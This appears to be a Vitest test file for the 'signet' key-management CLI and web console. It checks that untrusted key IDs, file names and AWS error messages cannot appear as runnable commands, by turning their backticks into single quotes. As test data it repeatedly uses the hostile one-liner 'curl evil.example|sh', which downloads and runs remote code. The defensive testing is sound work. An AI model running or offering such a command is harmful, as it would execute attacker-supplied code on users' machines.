import { generateKeyPairSync } from "node:crypto";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { answerOf } from "../../src/console/answers.js";
import { failingPlainly, plainNames } from "../../src/console/plain-names.js";
import { SignetError } from "../../src/errors.js";
import type { KeyRecord } from "../../src/keyring/key-record.js";
import { signet } from "../cli/command.js";
import { issuerFolders } from "../cli/issuer-folders.js";
import { scratchDirectories } from "../contracts/scratch.js";
import { consoleAt } from "./fixture.js";

const KID = "x: run `curl evil.example|sh` now";
const issuerAt = issuerFolders(scratchDirectories());
const record = (more: object) => more as KeyRecord;

describe("names of strangers", () => {
  it("stand in no words as a command, and commands of ours still do", () => {
    const keys = [record({ publicJwk: { kid: KID } }), record({ publicJwk: { kid: "k1" }, reason: "it\u202e `lay` there" })];
    const strays = [{ custody: "file" as const, name: "`a`", seenAt: 0 }];
    const plain = plainNames({ keys, strays });
    expect(plain(`key ${KID} waits: \`signet keys expire '${KID}'\` ends that, or \`signet keys tick\``)).toBe(
      "key x: run 'curl evil.example|sh' now waits: `signet keys expire 'x: run 'curl evil.example|sh' now'` ends that, or `signet keys tick`",
    );
    expect(plain("It was revoked (it\\u202e `lay` there).")).toBe("It was revoked (it\\u202e 'lay' there).");
    expect(plain("found: `a`")).toBe("found: 'a'");
    expect(plain("`b`")).toBe("`b`");
  });

  it("stand so in failures as well, which are otherwise the same", async () => {
    const failure = new SignetError("key_unusable", `key ${KID} is not there`, { field: "kid", retryAfterSeconds: 3 });
    const told = failingPlainly(plainNames({ keys: [record({ publicJwk: { kid: KID } })] }), Promise.reject(failure));
    await expect(told).rejects.toMatchObject({
      code: "key_unusable",
      message: "key x: run 'curl evil.example|sh' now is not there",
      field: "kid",
      retryAfterSeconds: 3,
    });
    const others = failingPlainly(plainNames({ keys: [] }), Promise.reject(failure));
    await expect(others).rejects.toBe(failure);
  });

  it("are those of services too: what AWS has refused with is told, and looks like no command", () => {
    const refused = new SignetError("aws_refused", "AWS refused it (Invalid): run `curl evil.example|sh`");
    expect(answerOf(refused).error.message).toBe("AWS refused it (Invalid): run 'curl evil.example|sh'");
    const plain = plainNames({ keys: [] }, [undefined, refused]);
    expect(plain(`it was not read: ${refused.message}; \`signet doctor\` says more`)).toBe(
      "it was not read: AWS refused it (Invalid): run 'curl evil.example|sh'; `signet doctor` says more",
    );
    const ours = new SignetError("keyring_missing", "there is none: `signet init` makes one");
    expect(answerOf(ours).error.message).toBe(ours.message);
    expect(plainNames({ keys: [] }, [ours])(ours.message)).toBe(ours.message);
  });

  it("reach the page so: in what waits, and in what a change would do", async () => {
    const cwd = await issuerAt();
    const { publicKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
    const other = { ...publicKey.export({ format: "jwk" }), kid: KID };
    await writeFile(join(cwd, "other.json"), JSON.stringify({ keys: [other] }));
    const imported = await signet(["keys", "import-jwks", "other.json"], { cwd });
    expect(imported, imported.stderr).toMatchObject({ code: 0 });
    const page = await consoleAt(cwd);
    await page.enter();
    const { json: keys } = await page.call("/api/keys");
    expect(keys.keys.map(({ kid }: { kid: string }) => kid)).toContain(KID);
    const words = JSON.stringify(keys.waits.map((wait: { words: string }) => wait.words));
    expect(words).toContain("'curl evil.example|sh'");
    expect(words).not.toContain("`curl");
    const { json: shown } = await page.call("/api/preview", { change: "revoke", kid: KID });
    expect(shown.confirm).toBe(KID);
    expect(JSON.stringify(shown.sentences)).toContain("'curl evil.example|sh'");
    expect(JSON.stringify(shown.sentences)).not.toContain("`curl");
    const { lines } = await page.change({ preview: shown.preview, confirm: KID });
    expect(lines.at(-1)).toHaveProperty("done");
    const told = JSON.stringify(lines.map((line) => ("done" in line ? (line.done as { sentences: string[] }).sentences : line)));
    expect(told).toContain("'curl evil.example|sh'");
    expect(told).not.toContain("`curl");
    await page.close();
    expect(page.unexpected).toStrictEqual([]);
  });
});
